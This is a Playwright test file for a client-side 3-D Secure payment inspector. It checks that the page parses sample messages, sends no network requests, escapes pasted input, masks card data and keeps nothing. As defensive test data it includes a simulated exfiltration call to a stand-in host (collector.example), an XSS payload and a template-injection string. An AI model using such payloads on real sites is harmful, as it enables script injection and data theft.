import type { Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { openSite, type Site, visit, type Watched } from './open-site.ts'

let site: Site
let watched: Watched

beforeAll(async () => {
  site = await openSite()
  watched = await visit(site, '/inspector')
  await watched.page.waitForSelector('.inspector')
})
afterAll(() => site.close())

const kindOf = (page: Page): Promise<string | null> => page.locator('.inspection .kind code').first().textContent()

/** Types into the box as a person pastes, and waits until the answer stands. */
async function paste(page: Page, text: string): Promise<void> {
  await page.fill('#blob', '')
  await page.waitForSelector('.answer .nothing')
  await page.fill('#blob', text)
  await page.waitForSelector('.inspection')
}

const samples = [
  ['CRes', 'cres'],
  ['PaRes', 'pares'],
  ['Cardinal’s token', 'cardinal-response-jwt'],
  ['Spreedly’s callback', 'spreedly-callback'],
  ['A stored state', 'flow-state'],
  ['ECI 07', 'eci'],
] as const

describe('the inspector', () => {
  it.each(samples)('reads %s', async (name, kind) => {
    await watched.page.getByRole('button', { name, exact: true }).click()
    await expect.poll(() => kindOf(watched.page)).toBe(kind)
    expect(watched.complaints).toEqual([])
  })

  it('sends nothing, not even to its own host, once it has loaded', async () => {
    await paste(watched.page, '05')
    const before = watched.requests.length
    await paste(watched.page, 'cres=eyJtZXNzYWdlVHlwZSI6IkNSZXMifQ')
    await paste(watched.page, '{"authentication":{"token":"secret"}}')
    expect(watched.requests.slice(before)).toEqual([])
  })

  it('has the browser refuse a request that somebody makes all the same', async () => {
    const { page } = await visit(site, '/inspector')
    const refused = await page.evaluate(async () => {
      const tried: unknown[] = await Promise.allSettled([
        fetch('/'),
        fetch('https://collector.example/', { method: 'POST', mode: 'no-cors', body: 'pasted' }),
      ])
      const violations = new Promise<string>((heard) => {
        document.addEventListener('securitypolicyviolation', (event) => heard(event.effectiveDirective), { once: true })
      })
      navigator.sendBeacon('https://collector.example/', 'pasted')
      return { tried: JSON.stringify(tried), directive: await violations }
    })
    expect(refused.tried).not.toContain('fulfilled')
    expect(refused.directive).toBe('connect-src')
    await page.context().close()
  })

  it('shows hostile text as text: no tag, no script, no picture comes of it', async () => {
    const { page } = watched
    const hostile = '<img src=x onerror="window.owned=1"><script>window.owned=1</' + 'script>'
    await paste(
      page,
      JSON.stringify({ version: 1, provider: hostile, id: hostile, revision: 1, step: { type: hostile } }),
    )
    await paste(page, `<transactions><transaction><token><![CDATA[${hostile}]]></token></transaction></transactions>`)
    await paste(page, hostile)
    await paste(page, '{{ constructor.constructor("window.owned=1")() }}')
    expect(await page.evaluate(() => 'owned' in window)).toBe(false)
    expect(await page.locator('.answer img, .answer script').count()).toBe(0)
    expect(watched.complaints).toEqual([])
  })

  it('masks a card number and a cryptogram until it is asked to show them', async () => {
    const { page } = watched
    await page.getByRole('button', { name: 'PaRes', exact: true }).click()
    await page.waitForSelector('.inspection .masked')
    expect(await page.locator('.answer').textContent()).not.toContain('AAABBEg0VhI0VniQEjRWAAAAAAA=')
    await page.getByLabel('Show card numbers, cryptograms and tokens').check()
    await page.waitForSelector('text=AAABBEg0VhI0VniQEjRWAAAAAAA=')
  })

  it('is worked by the keyboard alone', async () => {
    const { page } = await visit(site, '/inspector')
    await page.waitForSelector('.inspector')
    await page.focus('#blob')
    await page.keyboard.type('07')
    await page.keyboard.press('Tab')
    await page.keyboard.type('Mastercard')
    await expect.poll(() => page.locator('.answer').textContent()).toContain('first payment of a series')
    await page.context().close()
  })

  it('keeps nothing', async () => {
    const { page } = watched
    const kept = await page.evaluate(() =>
      JSON.stringify([{ ...localStorage }, { ...sessionStorage }, document.cookie]),
    )
    expect(kept).not.toMatch(/cres|eci|07/i)
    await page.reload()
    await page.waitForSelector('#blob')
    expect(await page.inputValue('#blob')).toBe('')
  })
})
